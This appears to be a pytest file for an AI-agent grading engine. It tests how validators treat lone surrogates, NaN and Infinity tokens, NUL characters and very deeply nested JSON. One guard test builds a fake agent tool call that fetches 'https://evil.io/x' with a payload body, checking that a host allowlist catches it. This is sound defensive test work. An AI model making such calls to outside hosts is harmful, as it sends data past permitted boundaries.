"""Agent text a JSON reply can carry but few checks expect: lone UTF-16 surrogates, NaN and
Infinity tokens (grading.md §1.4 rule 7, §2, §3.2, §5.3). A check reads such text to a verdict;
it never crashes into ERROR on it, and never passes it as JSON."""

from __future__ import annotations

import json

import pytest
import re2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from validator_helpers import run, status

from grading.engine import evidence_from_response, grade_case
from grading.engine.types import CaseDef, GradeContext
from grading.engine.validators.common import compile_re2, search_span

CTX = GradeContext(case_findings=[])


def _grade(response: dict, spec: dict):
    return grade_case(evidence_from_response(response), CaseDef("ch", "c"), spec, context=CTX)


def test_search_span_reads_a_lone_surrogate_as_one_replacement_character():
    # json reads "\ud800" into a str UTF-8 cannot encode; RE2 needs UTF-8. Offsets still count
    # the text's code points.
    text = "ok \ud800 done"
    assert search_span(compile_re2("done"), text) == (text.index("done"), len(text))
    assert search_span(compile_re2("ok . done"), text) == (0, len(text))
    assert search_span(compile_re2("nothing"), text) is None
    assert re2.compile("done").search(text.replace("\ud800", "\ufffd")).span() == (5, 9)


def test_regex_match_on_output_with_a_lone_surrogate_is_a_verdict():
    r = run("regex_match", "answer \udc00: 42", r"\d+$")
    assert status(r) == "PASSED" and "match at 10-12" in r.evidence
    assert status(run("regex_match", "answer \udc00", r"\d+")) == "FAILED"


def test_a_rule_on_output_with_a_lone_surrogate_is_a_verdict():
    rules = {
        "job": [{"label": "L", "validator": "pattern_match", "where": "job_resolution", "pattern": "done"}]
    }
    g = _grade({"final_output": "ok \ud800 done"}, {"validators": [], "rules": rules})
    rule = next(e for e in g.expectations if e.key == "rules.job[0]")
    assert rule.status.value == "PASSED", rule.evidence


def test_nan_and_infinity_are_not_json_for_json_schema():
    # json (which reads agent replies) accepts these tokens; JSON does not (RFC 8259).
    for text, offset in (("NaN", 0), ("-Infinity", 0), ('{"n": Infinity}', 6), ('[1, "NaN", NaN]', 11)):
        r = run("json_schema", text, '{"type": ["number", "object", "array"]}')
        assert status(r) == "FAILED", (text, r.evidence)
        assert f"not JSON at offset {offset}" in r.evidence


def test_nan_in_json_path_actual_is_not_json():
    r = run("json_path_match", '{"total": NaN}', '{"path": "$.total", "comparator": "less_than", "value": 5}')
    assert status(r) == "FAILED" and "not JSON at offset 10" in r.evidence
    r = run(
        "json_path_match",
        '{"total": Infinity}',
        '{"path": "$.total", "comparator": "greater_than", "value": 5}',
    )
    assert status(r) == "FAILED" and "not JSON" in r.evidence


def test_nan_on_the_expected_side_is_a_pack_error():
    r = run("json_path_match", '{"a": 1}', '{"path": "$.a", "value": NaN}')
    assert status(r) == "NOT_EVALUATED" and r.klass().value == "pack_error"


def test_nan_in_a_returned_json_file_is_not_json():
    r = run("file_content_match", "[NaN]", "[null]", {"match_mode": "json_equal"})
    assert status(r) == "FAILED" and "not JSON at offset 1" in r.evidence
    r = run("file_json_schema", '{"x": NaN}', None, {"schema": {"type": "object"}})
    assert status(r) == "FAILED" and "not JSON at offset 6" in r.evidence


def test_a_string_holding_nan_is_still_json():
    assert status(run("json_schema", '{"n": "NaN"}', '{"type": "object"}')) == "PASSED"


def _deep(depth: int, leaf: object = "x") -> object:
    value = leaf
    for _ in range(depth):
        value = {"a": value}
    return value


def _guarded(response: dict):
    rules = {
        "allowed_hosts": ["docs.python.org"],
        "job": [{"label": "plan", "validator": "pattern_match", "where": "job_plan", "pattern": "x"}],
    }
    spec = {
        "validators": [
            {"key": "calls", "type": "contains", "target": "tool_calls", "expected_from": "literal:evil.io"}
        ],
        "rules": rules,
    }
    return _grade(response, spec)


@pytest.mark.parametrize("depth", [300, 600, 950])
def test_deeply_nested_tool_arguments_do_not_hide_a_guard_violation(depth):
    # An agent's arguments may parse about 1,000 levels deep; walking them (canonical JSON, the
    # derived task plan, the guard's URL search) went past the interpreter's recursion limit and
    # the whole case became ERROR, excluded from pass rates: the violation was never counted.
    for args in (_deep(depth), json.dumps(_deep(depth))):
        calls = [
            {"name": "fetch", "args": {"url": "https://evil.io/x", "body": args}},
            {"name": "TodoWrite", "args": args},
        ]
        g = _guarded({"final_output": "done", "tool_calls": calls})
        assert g.message is None, g.message
        assert g.status.value == "FAILED"
        guard = g.expectations[0]
        assert guard.key == "rules.allowed_hosts" and guard.status.value == "FAILED"
        assert "'evil.io'" in guard.evidence
        assert {e.key: e.status.value for e in g.expectations}["calls"] == "PASSED"


@pytest.mark.parametrize("depth", [300, 950])
def test_a_deeply_nested_final_output_value_is_graded(depth):
    ev = evidence_from_response({"final_output": _deep(depth)})
    spec = {
        "validators": [
            {"key": "x", "type": "contains", "target": "final_output", "expected_from": "literal:x"}
        ]
    }
    g = grade_case(ev, CaseDef("ch", "c"), spec, context=CTX)
    assert g.message is None and g.expectations[0].status.value in ("PASSED", "FAILED")


def test_a_deeply_nested_json_file_is_compared_not_crashed():
    # orjson reads a returned file 900 levels deep; the comparison decided, then rendering the
    # value for the evidence went past the recursion limit: ERROR instead of a verdict.
    brackets = "[" * 900 + "]" * 900
    r = run("file_content_match", brackets, "{}", {"match_mode": "json_equal"})
    assert status(r) == "FAILED", r.evidence
    assert "JSON (nested too deeply to show) vs expected {}" in r.evidence


def test_nan_in_a_final_output_value_reads_as_null_as_stored():
    # json reads {"final_output": {"n": NaN}}; the stored evidence holds null (runs.storable), and
    # a re-grade must give what the live grade gave.
    ev = evidence_from_response({"final_output": {"n": float("nan"), "m": [float("inf")]}})
    assert ev.final_output_value == {"n": None, "m": [None]}
    schema = '{"properties": {"n": {"type": "number"}}}'
    spec = {
        "validators": [
            {
                "key": "s",
                "type": "json_schema",
                "target": "final_output",
                "expected_from": "literal:" + schema,
            }
        ]
    }
    g = grade_case(ev, CaseDef("ch", "c"), spec, context=CTX)
    assert g.expectations[0].status.value == "FAILED"


def _stored(response: dict) -> dict:
    """The response as a re-grade reads it back from the database."""
    from runs.storable import storable_json

    return json.loads(storable_json(response))


_STORED_SPEC = {
    "validators": [
        {
            "key": "norm",
            "type": "normalized_match",
            "target": "final_output",
            "expected_from": "literal:42",
            "config": {"pipeline": ["trim", "strip_punctuation"]},
        },
        {
            "key": "args",
            "type": "tool_call_assertion",
            "target": "tool_calls",
            "config": {"tool_name": "Write", "arguments_contain": {"path": "out.txt"}},
        },
        {"key": "file", "type": "file_content_match", "target": "file:out", "expected_from": "literal:ok"},
        {"key": "plan", "type": "contains", "target": "tool_calls", "expected_from": "literal:step"},
    ],
    "post_execution_checks": [{"key": "out", "type": "file_capture", "path": "out.txt"}],
    "rules": {
        "allowed_hosts": ["docs.python.org"],
        "job": [
            {"label": "cmd", "validator": "pattern_match", "where": "executed_commands", "pattern": "^ls$"}
        ],
    },
}


def _graded(response: dict) -> dict:
    g = _grade(response, _STORED_SPEC)
    assert g.message is None, g.message
    doc = g.to_dict()
    doc.pop("timing")
    return doc


@pytest.mark.parametrize("odd", ["\x00", "\ud800", "\udfff"])
def test_a_live_grade_and_the_regrade_of_the_stored_response_agree(odd):
    # Storage writes NUL and lone surrogates as U+FFFD (PostgreSQL refuses them); the live grade
    # read them as sent, so "42<NUL>" failed normalized_match ([trim, strip_punctuation]) live
    # and passed on re-grade (U+FFFD is a symbol, stripped), and keys and evidence differed.
    response = {
        "final_output": "42" + odd,
        "tool_calls": [
            {"name": "Write", "args": {"path": "out.txt", "no" + odd + "te": "step" + odd}},
            {"name": "Bash", "args": {"command": "ls" + odd}},
            {"name": "fetch", "args": {"url": "https://docs.python.org/" + odd}},
        ],
        "files": {"out.txt": "ok" + odd},
        "user_notes": "## Uncertain\n- " + odd,
    }
    stored = _stored(response)
    assert odd not in json.dumps(stored, ensure_ascii=False)
    live, regraded = _graded(response), _graded(stored)
    assert live == regraded
    norm = next(e for e in live["expectations"] if e["key"] == "norm")
    assert norm["status"] == "PASSED", norm["evidence"]  # what the stored form reads


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(alphabet=st.sampled_from(["a", "4", "2", " ", ".", "\x00", "\ud800", "\ufffd"]), max_size=8),
    st.dictionaries(
        st.text(alphabet=st.sampled_from(["p", "\x00", "\udc00"]), max_size=3),
        st.text(alphabet=st.sampled_from(["s", "t", "\x00", "\ud83d"]), max_size=4),
        max_size=3,
    ),
)
def test_live_and_stored_readings_agree_for_any_text(text, args):
    response = {
        "final_output": text,
        "tool_calls": [{"name": "Write", "args": args}, {"name": "Bash", "args": {"command": text}}],
        "files": {"out.txt": text},
    }
    assert _graded(response) == _graded(_stored(response))


# --- properties ------------------------------------------------------------------------

_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=6)
)
_json = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=8,
)
_args = st.dictionaries(st.sampled_from(["path", "command", "n", "skill", "x"]), _json, max_size=3)
_calls = st.lists(
    st.tuples(st.sampled_from(["Bash", "Read", "Skill", "fetch"]), _args, st.sampled_from(["ok", "error"])),
    max_size=4,
)


def _validators(expected_args: dict) -> list[dict]:
    return [
        {
            "key": "assert",
            "type": "tool_call_assertion",
            "target": "tool_calls",
            "config": {"tool_name": "Bash", "arguments_contain": expected_args},
        },
        {
            "key": "traj",
            "type": "tool_trajectory",
            "target": "tool_calls",
            "config": {"expected": [{"name": "Bash", "args": expected_args}], "match_type": "IN_ORDER"},
        },
        {
            "key": "skills",
            "type": "skills_trajectory",
            "target": "tool_calls",
            "config": {"skills": [{"tool": "Bash", "args": expected_args}, "Read"]},
        },
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_calls, _args)
def test_arguments_as_json_text_or_as_an_object_grade_the_same(calls, expected_args):
    """§1.1: a call's args are an object; a reply may send them as JSON text. Either way the
    matchers see one value and give one verdict."""
    spec = {"validators": _validators(expected_args)}

    def verdicts(as_text: bool) -> list[tuple]:
        raw = [{"name": n, "args": json.dumps(a) if as_text else a, "status": s} for n, a, s in calls]
        g = _grade({"final_output": "", "tool_calls": raw}, spec)
        assert g.message is None, g.message
        return [(e.key, e.status, e.score, e.per_invocation_scores) for e in g.expectations]

    assert verdicts(False) == verdicts(True)


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet=st.characters(blacklist_categories=()), max_size=30),
    st.sampled_from([".", "a.b", r"\w+", "^$"]),
)
def test_search_span_never_raises_on_any_str(text, pattern):
    span = search_span(compile_re2(pattern), text)
    replaced = "".join("\ufffd" if 0xD800 <= ord(c) <= 0xDFFF else c for c in text)
    want = re2.compile(pattern).search(replaced)
    assert span == (None if want is None else want.span())


_names = st.sampled_from(["a", "b", "c"])


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_names, max_size=5), st.lists(_names, min_size=1, max_size=4), st.lists(_names, max_size=3))
def test_match_types_are_ordered_any_in_order_exact(observed, required, second_turn):
    """An order a match passes under EXACT also passes IN_ORDER, and IN_ORDER's credit never
    exceeds ANY_ORDER's, for both matchers, per invocation (§4.1, §4.2)."""
    response = {
        "final_output": "",
        "invocations": [
            {"tool_calls": [{"name": n} for n in observed]},
            {"tool_calls": [{"name": n} for n in second_turn]},
        ],
    }
    for vtype, config in (
        ("skills_trajectory", {"skills": required}),
        ("tool_trajectory", {"expected": [[{"name": n} for n in required]] * 2}),
    ):
        scores = {}
        for mode in ("ANY_ORDER", "IN_ORDER", "EXACT"):
            spec = {
                "validators": [
                    {
                        "key": "m",
                        "type": vtype,
                        "target": "tool_calls",
                        "config": {**config, "match_type": mode},
                    }
                ]
            }
            scores[mode] = _grade(response, spec).expectations[0].per_invocation_scores
        for any_s, in_s, exact_s in zip(
            scores["ANY_ORDER"], scores["IN_ORDER"], scores["EXACT"], strict=True
        ):
            assert exact_s <= in_s <= any_s, (vtype, scores)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=()), max_size=12))
def test_evidence_finds_exactly_the_characters_storage_replaces(text):
    from grading.engine import jsontext

    unstorable = jsontext.UNSTORABLE_CHARS.search(text) is not None
    assert jsontext._unstorable(text) is unstorable
    assert (jsontext.bounded([text]) != [text]) is unstorable


def _file_json_equal(content: str, expected: str):
    spec = {
        "validators": [
            {
                "key": "f",
                "type": "file_content_match",
                "target": "file:out",
                "expected_from": "literal:" + expected,
                "config": {"match_mode": "json_equal"},
            }
        ],
        "post_execution_checks": [{"key": "out", "type": "file_capture", "path": "out.json"}],
    }
    return _grade({"final_output": "x", "files": {"out.json": content}}, spec).expectations[0]


def test_json_equal_on_two_documents_too_deep_to_compare_is_an_input_over_limits_error():
    # Both sides parse (about 1,000 levels), but the comparison recursed past the interpreter's
    # limit: ERROR 'exception' "validator crashed: RecursionError". Grading.md §2 names input
    # over limits; the depth is never cut on parse, so two different documents never compare equal.
    deep = "[" * 600 + "1" + "]" * 600
    for expected in (deep, deep.replace("1", "2")):
        e = _file_json_equal(deep, expected)
        assert (e.status.value, e.outcome_class.value, e.reason_code) == (
            "ERROR",
            "evaluator_error",
            "input_too_large",
        )
        assert "input over limits" in e.evidence and "600 levels deep" in e.evidence, e.evidence
        assert "RecursionError" not in e.evidence
    # one side shallow: decided without recursing, still a verdict
    assert _file_json_equal(deep, "[1]").status.value == "FAILED"


def test_json_schema_with_a_recursive_ref_on_an_answer_too_deep_to_validate_is_an_input_over_limits_error():
    schema = {"$defs": {"n": {"type": "array", "items": {"$ref": "#/$defs/n"}}}, "$ref": "#/$defs/n"}
    spec = {
        "validators": [
            {
                "key": "s",
                "type": "json_schema",
                "target": "final_output",
                "expected_from": "literal:" + json.dumps(schema),
            }
        ]
    }
    for answer in ("[" * 600 + "]" * 600, "[" * 600 + "1" + "]" * 600):
        e = _grade({"final_output": answer}, spec).expectations[0]
        assert (e.status.value, e.outcome_class.value, e.reason_code) == (
            "ERROR",
            "evaluator_error",
            "input_too_large",
        )
        assert "input over limits" in e.evidence and "levels deep" in e.evidence, e.evidence
        assert "RecursionError" not in e.evidence
    # the same schema on a shallow answer is a verdict either way
    assert _grade({"final_output": "[[[]]]"}, spec).expectations[0].status.value == "PASSED"
    assert _grade({"final_output": "[[1]]"}, spec).expectations[0].status.value == "FAILED"


def test_any_check_recursing_past_the_limit_is_input_over_limits_not_a_crash():
    # json_path_match equals on two ~600-deep values (also the trajectory and argument
    # comparisons, which share deep_equal) ended "validator crashed: RecursionError" (reason
    # exception); every check's last net now says grading.md §2's input over limits.
    deep = "[" * 600 + "1" + "]" * 600
    expectation = json.dumps({"path": "$", "comparator": "equals", "value": json.loads(deep)})
    spec = {
        "validators": [
            {
                "key": "p",
                "type": "json_path_match",
                "target": "final_output",
                "expected_from": "literal:" + expectation,
            }
        ]
    }
    e = _grade({"final_output": deep}, spec).expectations[0]
    assert (e.status.value, e.outcome_class.value, e.reason_code) == (
        "ERROR",
        "evaluator_error",
        "input_too_large",
    )
    assert "input over limits" in e.evidence and "RecursionError" not in e.evidence
    # a shallow answer against the same deep value is still decided
    assert _grade({"final_output": "[1]"}, spec).expectations[0].status.value == "FAILED"


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("[" * 5000 + "]" * 5000, "nested"),
        ('{"a": ' * 3000 + "1" + "}" * 3000, "nested"),
        ("1" * 5000, "digits"),
        ('{"total": ' + "9" * 5000 + "}", "digits"),
    ],
)
def test_json_text_beyond_what_the_parser_reads_is_input_over_limits_not_not_json(text, what):
    # Valid JSON nested deeper than the parser recurses, or holding an integer of more digits
    # than Python converts, read as "actual is not JSON at offset 0" (FAILED, the agent
    # charged): it is JSON, and grading.md §2 makes input over limits ERROR / evaluator_error.
    for vtype, expected in (
        ("json_schema", '{"type": ["array", "object", "number"]}'),
        ("json_path_match", "$"),
    ):
        spec = {
            "validators": [
                {"key": "j", "type": vtype, "target": "final_output", "expected_from": "literal:" + expected}
            ]
        }
        r = _grade({"final_output": text}, spec).expectations[0]
        assert (r.status.value, r.outcome_class.value, r.reason_code) == (
            "ERROR",
            "evaluator_error",
            "input_too_large",
        ), (vtype, r.evidence)
        assert "not JSON" not in r.evidence and "input over limits" in r.evidence, r.evidence
        assert what in r.evidence, r.evidence
    # a shallow document next to it is still a verdict
    assert status(run("json_path_match", "[[1]]", "$[0][0]")) == "PASSED"
